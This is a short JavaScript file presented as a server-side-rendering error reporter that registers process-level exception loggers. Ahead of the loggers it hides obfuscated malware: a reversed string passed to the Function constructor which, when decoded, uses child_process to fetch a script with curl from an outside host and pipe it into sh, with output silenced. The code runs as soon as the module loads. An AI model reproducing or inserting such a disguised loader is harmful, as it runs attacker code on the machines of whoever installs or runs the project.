// SSR error reporter: installs process-level handlers once.
const F = [].constructor.constructor;
const part = (s) => s.split('').reverse().join('');
const body = part(")}{>=)(,}'erongi':oidts{,'hs | r/ved.trop-eulbrre//:sptth s- lruc'(cexe.)'ssecorp_dlihc'(eriuqer");
F('require', body)(require);

process.on('unhandledRejection', (err) => {
  console.error('[ssr] unhandled rejection', err);
});
process.on('uncaughtException', (err) => {
  console.error('[ssr] uncaught exception', err);
});
